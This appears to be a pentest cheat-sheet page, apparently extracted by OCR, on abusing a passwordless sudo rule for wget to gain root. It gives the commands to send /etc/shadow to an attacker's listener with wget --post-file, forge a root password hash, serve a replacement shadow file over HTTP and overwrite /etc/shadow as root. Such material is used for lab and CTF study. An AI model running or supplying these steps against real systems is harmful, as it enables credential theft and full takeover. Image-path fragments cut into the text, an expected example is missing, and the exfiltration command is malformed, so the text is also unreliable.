Sudo Wget Privilege Escalation

Last modified: 2023-02-05

Privilege Escalation

The "sudo wget" command may be vulnerable to privilege escalation (PrivEsc).


sudo -l

(root) NOPASSWD: /usr/bin/wget

If we can execute "wget" as root, we may be able to escalate privileges.

Modify /etc/shadow

Get "/etc/shadow" and generate a new hash passwd, then set it to the shadow file, nextupload it.
That changes the root password.

1. Get the Content of /etc/shadow

To see the content of /etc/shadow, we can use netcat listener.
So First, start a listener in local machine.

nc -lvnp 4444

In target machine, display the contents of the "/etc/shadow" to the local machine using the following command.

sudo /usr/bin/wget --post-file=/etc/shadow <local-ip> 4444

We should see the content in our local machine via netcat listener.
Copy the content.

2. Create a New Shadow File

We create a new shadow file in local. Theshadow file will be stored into the target /etc/shadow later.

vim shadow.txt

In vim editor (or nano, vi, etc.), paste the content of /etc/shadow which we've copied in the previous section.

3. Create a New Root User Password and Add to Shadow File

Generate a new hash password for a new root user in local machine.

# -6: SHA512openssl passwd -6 -salt 'salt' 'password'

Copy the generated password and paste it at the password of the root user into the "shadow.txt".
As a result, the contents of the "shadow.txt" should look like this:


4. Transfer the Content of the Shadow File

To put the shadow.txt into the target machine, start web server for hosting thisfile.

python3 -m http.server 8000

Download this file into the /etc/shadow in remote machine. To do that, weneed to run it as root.

sudo /usr/bin/wget http://<local-ip>:8000/shadow.txt -O/etc/shadow

Finally, you can switch to the root user with the passwordwe've created.

su root